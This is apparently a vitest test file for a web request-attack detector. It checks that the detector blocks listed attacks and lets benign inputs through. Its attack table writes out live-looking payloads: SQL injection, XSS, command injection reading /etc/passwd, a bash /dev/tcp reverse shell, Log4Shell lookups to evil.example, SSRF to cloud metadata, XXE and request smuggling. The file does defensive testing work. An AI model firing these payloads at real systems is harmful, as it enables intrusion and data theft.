// Table-driven profiles: request in → rule ids and decision out.
import { describe, expect, it } from "vitest";
import { baselineConfig, compileDetector, listRules, type DetectionRequest, type DetectorConfig } from "./index.js";

const UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

function get(pathAndQuery: string, headers: [string, string][] = []): DetectionRequest {
  const q = pathAndQuery.indexOf("?");
  return {
    method: "GET",
    path: q < 0 ? pathAndQuery : pathAndQuery.slice(0, q),
    query: q < 0 ? "" : pathAndQuery.slice(q + 1),
    headers: [["Host", "app.example"], ["User-Agent", UA], ...headers],
  };
}
const param = (value: string): DetectionRequest => get(`/search?q=${encodeURIComponent(value)}`);
function post(contentType: string, body: string, path = "/submit"): DetectionRequest {
  return {
    method: "POST",
    path,
    query: "",
    headers: [
      ["Host", "app.example"],
      ["Content-Type", contentType],
    ],
    body: Buffer.from(body),
  };
}
const json = (doc: unknown): DetectionRequest => post("application/json", JSON.stringify(doc));
const form = (body: string): DetectionRequest => post("application/x-www-form-urlencoded", body);

const standard = compileDetector(baselineConfig("standard"));
const ids = (req: DetectionRequest, detector = standard): string[] => detector.inspect(req).matches.map((m) => m.ruleId);

interface Case {
  name: string;
  req: DetectionRequest;
  expect: string;
}

const ATTACKS: Case[] = [
  // sqli
  { name: "tautology in a parameter", req: param("1' OR '1'='1"), expect: "sqli.tautology" },
  { name: "UNION SELECT with comments", req: param("1/**/UNION/**/SELECT/**/1,2,3--"), expect: "sqli.union-select" },
  { name: "time-based blind", req: form("id=1%27+AND+SLEEP(5)%23"), expect: "sqli.time-function" },
  { name: "stacked query", req: param("1; DROP TABLE users--"), expect: "sqli.stacked-query" },
  { name: "full-width UNION SELECT", req: param("\uff35\uff2e\uff29\uff2f\uff2e \uff33\uff25\uff2c\uff25\uff23\uff34 1,2--"), expect: "sqli.union-select" },
  { name: "MongoDB operator in a parameter name", req: get("/login?user[$ne]=x"), expect: "sqli.nosql-operator" },
  { name: "MongoDB operator as JSON key", req: json({ user: { $ne: null } }), expect: "sqli.nosql-operator" },
  { name: "sqli in the Referer", req: get("/", [["Referer", "https://x.example/?id=1' UNION SELECT password FROM users--"]]), expect: "sqli.union-select" },
  // xss
  { name: "script tag", req: param("<script>alert(1)</script>"), expect: "xss.script-tag" },
  { name: "event handler", req: param("<img src=x onerror=alert(1)>"), expect: "xss.event-handler" },
  { name: "entity-obfuscated javascript: URL", req: param('<a href="jav&#x09;ascript:alert(1)">x</a>'), expect: "xss.script-url" },
  { name: "svg in the path", req: get("/p/%3Csvg%20onload%3Dalert(1)%3E"), expect: "xss.dangerous-tag" },
  { name: "tagged template call", req: param("[].sort.call`${alert}1`"), expect: "xss.tagged-template" },
  { name: "UTF-7 script", req: param("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), expect: "xss.utf7" },
  { name: "xss in a JSON value", req: json({ comment: "\u003cscript\u003ealert(1)\u003c/script\u003e" }), expect: "xss.script-tag" },
  // rce
  { name: "separator + command", req: param("127.0.0.1; cat /etc/passwd"), expect: "rce.command-injection" },
  { name: "command substitution", req: param("$(whoami)"), expect: "rce.substitution" },
  { name: "IFS evasion", req: param("cat${IFS}/etc/passwd"), expect: "rce.ifs-evasion" },
  { name: "quote evasion", req: param(";w'h'o'a'm'i"), expect: "rce.command-injection" },
  { name: "shellshock in User-Agent", req: { ...get("/"), headers: [["User-Agent", "() { :;}; /bin/bash -c id"]] }, expect: "rce.shellshock" },
  { name: "reverse shell", req: param("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), expect: "rce.reverse-shell" },
  { name: "brace expansion", req: param("{cat,/etc/passwd}"), expect: "rce.brace-expansion" },
  // lfi
  { name: "traversal", req: get("/download?file=../../../../etc/passwd"), expect: "lfi.path-traversal" },
  { name: "double-encoded traversal", req: get("/download?file=..%252f..%252fetc%252fhosts"), expect: "lfi.path-traversal" },
  { name: "overlong UTF-8 traversal", req: get("/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini"), expect: "lfi.path-traversal" },
  { name: "dot-directory in the path", req: get("/.git/config"), expect: "lfi.hidden-path" },
  { name: "sensitive file", req: param("/proc/self/environ"), expect: "lfi.sensitive-file" },
  // rfi
  { name: "include URL with trailing ?", req: get("/index.php?page=http://evil.example/shell.txt?"), expect: "rfi.trailing-question" },
  { name: "URL to an IP", req: get("/index.php?page=http://203.0.113.9/x.php"), expect: "rfi.ip-url" },
  // java
  { name: "Log4Shell in a header", req: get("/", [["X-Api-Version", "${jndi:ldap://evil.example/a}"]]), expect: "java.jndi-lookup" },
  { name: "obfuscated Log4Shell", req: get("/", [["User-Agent", "${${::-j}${lower:N}di:${lower:l}dap://x}"]]), expect: "java.jndi-lookup" },
  { name: "URL-encoded Log4Shell in the query", req: get("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"), expect: "java.jndi-lookup" },
  { name: "serialized object (base64)", req: get("/", [["Cookie", "state=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ"]]), expect: "java.serialized-object" },
  {
    name: "serialized object (raw body)",
    req: { ...post("application/x-java-serialized-object", ""), body: Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72]) },
    expect: "java.serialized-object",
  },
  {
    name: "OGNL in Content-Type",
    req: post("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "x"),
    expect: "java.expression-injection",
  },
  { name: "Spring4Shell class loader", req: form("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"), expect: "java.class-loader" },
  { name: "gadget class", req: json({ x: "org.apache.commons.collections.functors.InvokerTransformer" }), expect: "java.gadget-class" },
  // php
  { name: "php wrapper", req: get("/index.php?page=php://filter/convert.base64-encode/resource=index.php"), expect: "php.wrapper" },
  { name: "php function call with comment evasion", req: param("system/**/('id')"), expect: "php.function-call" },
  { name: "variable function", req: param("$_GET['f']($_GET['a'])"), expect: "php.variable-function" },
  { name: "serialized object", req: param('O:8:"stdClass":1:{s:1:"a";i:1;}'), expect: "php.serialized-object" },
  {
    name: "php upload",
    req: post("multipart/form-data; boundary=B", '--B\r\nContent-Disposition: form-data; name="f"; filename="shell.php5"\r\n\r\nx\r\n--B--\r\n'),
    expect: "php.script-upload",
  },
  // ssrf
  { name: "cloud metadata", req: param("http://169.254.169.254/latest/meta-data/"), expect: "ssrf.cloud-metadata" },
  { name: "decimal loopback", req: param("http://2130706433/admin"), expect: "ssrf.internal-host" },
  { name: "gopher", req: param("gopher://127.0.0.1:6379/_FLUSHALL"), expect: "ssrf.dangerous-scheme" },
  // generic
  { name: "prototype pollution via query", req: get("/?__proto__[admin]=1"), expect: "generic.prototype-pollution" },
  { name: "prototype pollution via JSON keys", req: json({ constructor: { prototype: { admin: true } } }), expect: "generic.prototype-pollution" },
  { name: "template injection", req: param("{{7*7}}"), expect: "generic.template-injection" },
  { name: "constant loop (base64-wrapped)", req: get("/?eval=d2hpbGUodHJ1ZSk7Cg%3D%3D"), expect: "generic.constant-loop" },
  { name: "XXE", req: post("application/xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), expect: "generic.xxe" },
  // session
  { name: "session id in the URL", req: get("/login?PHPSESSID=abc123"), expect: "session.fixation-parameter" },
  // protocol
  { name: "CRLF injection", req: get("/r?to=%2F%0d%0aSet-Cookie:%20a=1"), expect: "protocol.crlf-injection" },
  {
    name: "CL + TE",
    req: {
      ...post("text/plain", "x"),
      headers: [
        ["Content-Length", "1"],
        ["Transfer-Encoding", "chunked"],
      ],
    },
    expect: "protocol.request-smuggling",
  },
  { name: "obfuscated TE", req: get("/", [["Transfer-Encoding", "chunked, identity"]]), expect: "protocol.request-smuggling" },
  { name: "NUL byte", req: get("/doc?f=report.pdf%00.php"), expect: "protocol.null-byte" },
  // scanner
  { name: "scanner User-Agent", req: { ...get("/"), headers: [["User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"]] }, expect: "scanner.user-agent" },
  { name: "probe path", req: get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), expect: "scanner.probe-path" },
  { name: "scanner header", req: get("/", [["Acunetix-Product", "WVS/12"]]), expect: "scanner.header" },
];

const BENIGN: { name: string; req: DetectionRequest }[] = [
  { name: "apostrophes", req: param("O'Reilly and D'Angelo's pizza") },
  { name: "SQL words in prose", req: param("Please select one or more items from the union menu") },
  { name: "comparison prose", req: param("x > 5 or y < 3") },
  { name: "HTML formatting", req: json({ html: '<p>Hello <b>world</b> and <a href="https://example.com">a link</a></p>' }) },
  { name: "relative link", req: get("/list?dir=..%2Fimages") },
  { name: "file path", req: param("C:\\Users\\john\\Documents\\report.docx") },
  { name: "URL parameter", req: get("/login?return_to=https%3A%2F%2Fapp.example.com%2Fhome") },
  { name: "markdown with inline code", req: json({ text: "Use `npm install` to set up; then run it" }) },
  { name: "template placeholder", req: json({ note: "Hi ${user}, your order shipped" }) },
  { name: "image data URI", req: json({ avatar: "data:image/png;base64,iVBORw0KGgo=" }) },
  { name: "JWT cookie", req: get("/", [["Cookie", "token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.sig--abc"]]) },
  { name: "well-known path", req: get("/.well-known/openid-configuration") },
  {
    name: "multipart image upload",
    req: post("multipart/form-data; boundary=B", '--B\r\nContent-Disposition: form-data; name="photo"; filename="IMG_01.jpg"\r\n\r\n\xff\xd8\r\n--B--\r\n'),
  },
  { name: "SOAP body", req: post("text/xml", '<?xml version="1.0"?><Envelope><Body><Item>Apples &amp; pears</Item></Body></Envelope>') },
];

describe("detection at standard level", () => {
  it.each(ATTACKS)("blocks: $name → $expect", ({ req, expect: id }) => {
    const result = standard.inspect(req);
    expect(result.matches.map((m) => m.ruleId)).toContain(id);
    expect(result.blocked).toBe(true);
  });

  it.each(BENIGN)("passes: $name", ({ req }) => {
    expect(standard.inspect(req)).toEqual({ matches: [], blocked: false, uninspected: [] });
  });

  it("reports the part, the name and a bounded excerpt", () => {
    const [m] = standard.inspect(get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")).matches;
    expect(m).toMatchObject({ family: "xss", part: "parameter", name: "q", action: "blocked" });
    expect(m!.excerpt).toBe("<script");
    const long = standard.inspect(param(`' UNION SELECT ${"a,".repeat(200)}b FROM t--`)).matches;
    for (const x of long) expect(x.excerpt.length).toBeLessThanOrEqual(64);
  });

  it("names JSON values by pointer", () => {
    const m = standard.inspect(json({ a: [{ b: "1' OR '1'='1" }] })).matches[0];
    expect(m).toMatchObject({ part: "json-pointer", name: "/a/0/b" });
  });
});

describe("levels", () => {
  const basic = compileDetector(baselineConfig("basic"));
  const strict = compileDetector(baselineConfig("strict"));
  it("basic keeps only high-confidence signatures", () => {
    expect(ids(param("<script>alert(1)</script>"), basic)).toContain("xss.script-tag");
    expect(ids(param("<img src=x onerror=alert(1)>"), basic)).not.toContain("xss.event-handler");
    expect(ids(param("${jndi:ldap://x}"), basic)).toContain("java.jndi-lookup");
  });
  it("strict adds aggressive rules", () => {
    expect(ids(param("Xunionselectfrom"), standard)).toEqual([]);
    expect(ids(param("Xunionselectfrom"), strict)).toContain("sqli.keyword-chain");
    expect(ids(param("https://example.com/a.php"), strict)).toContain("rfi.script-url");
  });
  it("every rule has a known level and a unique id", () => {
    const all = listRules();
    expect(new Set(all.map((r) => r.id)).size).toBe(all.length);
    for (const r of all) expect(["basic", "standard", "strict"]).toContain(r.level);
  });
});

describe("modes and families", () => {
  it("log-only reports but does not block", () => {
    const d = compileDetector({ families: { xss: { level: "standard", mode: "log-only" }, sqli: { level: "standard", mode: "block" } } });
    const r = d.inspect(param("<script>alert(1)</script>"));
    expect(r.blocked).toBe(false);
    expect(r.matches[0]).toMatchObject({ family: "xss", action: "logged" });
    expect(d.inspect(param("1' OR '1'='1")).blocked).toBe(true);
  });
  it("a family left out of the config is not evaluated", () => {
    const d = compileDetector({ families: { sqli: { level: "strict", mode: "block" } } });
    expect(d.inspect(param("<script>alert(1)</script>")).matches).toEqual([]);
    expect(d.activeRuleIds.every((id) => id.startsWith("sqli."))).toBe(true);
  });
  it("rejects unknown families, levels, modes and keys", () => {
    expect(() => compileDetector({ families: { nope: { level: "basic", mode: "block" } } } as unknown as DetectorConfig)).toThrow();
    expect(() => compileDetector({ families: { xss: { level: "paranoid", mode: "block" } } } as unknown as DetectorConfig)).toThrow();
    expect(() => compileDetector({ families: { xss: { level: "basic", mode: "maybe" } } } as unknown as DetectorConfig)).toThrow();
    expect(() => compileDetector({ families: {}, exceptions: [] } as unknown as DetectorConfig)).toThrow(); // exceptions are the deny-rules middleware's
  });
});

describe("the clean-value cache", () => {
  // The engine remembers values that matched nothing (header, cookie, parameter and key names
  // repeat across requests). A verdict must never travel to another reading of the same text.
  it.each<[string, DetectionRequest, DetectionRequest]>([
    [
      "a query name primed as a JSON key (read without + as space)",
      json({ "1'+union+select+password+from+users--": 1 }),
      get("/a?1'+union+select+password+from+users--=1"),
    ],
    ["a JSON key primed as a query name (the NoSQL key check is JSON-only)", get("/a?$where=1"), json({ $where: "1" })],
    ["a cookie primed as a header of another name", get("/", [["X-Note", "${jndi:ldap://x}"]]), get("/", [["Cookie", "n=${jndi:ldap://x}"]])],
  ])("%s", (_name, primer, attack) => {
    const fresh = compileDetector(baselineConfig("standard"));
    const expected = fresh.inspect(attack).blocked;
    expect(expected).toBe(true);
    const primed = compileDetector(baselineConfig("standard"));
    primed.inspect(primer);
    expect(primed.inspect(attack).blocked).toBe(expected);
  });
});

describe("the JSON walk shared with the caller (DetectionRequest.jsonStrings)", () => {
  const detector = compileDetector(baselineConfig("standard"), { maxInspectBytes: 64 });
  const request = (body: string) => ({ method: "POST", path: "/", query: "", headers: [["Content-Type", "application/json"]] as const, body });

  it("hands over every key and string value, duplicates included, and says the walk was whole", () => {
    const seen: string[] = [];
    const result = detector.inspect({
      ...request('{"a":"x","b":["y",1],"a":"z"}'),
      jsonStrings: (pointer, value, isKey) => seen.push(`${isKey ? "key" : "value"} ${pointer}=${value}`),
    });
    expect(seen).toEqual(["key /a=a", "value /a=x", "key /b=b", "value /b/0=y", "key /a=a", "value /a=z"]);
    expect(result.jsonWalked).toBe(true);
  });

  it("says so when the body was not read whole as JSON, and leaves other callers' results as they were", () => {
    expect(detector.inspect({ ...request(`{"a":"${"x".repeat(100)}"}`), jsonStrings: () => undefined }).jsonWalked).toBe(false);
    expect(detector.inspect({ ...request("not json"), jsonStrings: () => undefined }).jsonWalked).toBe(false);
    expect("jsonWalked" in detector.inspect(request('{"a":"x"}'))).toBe(false);
  });
});
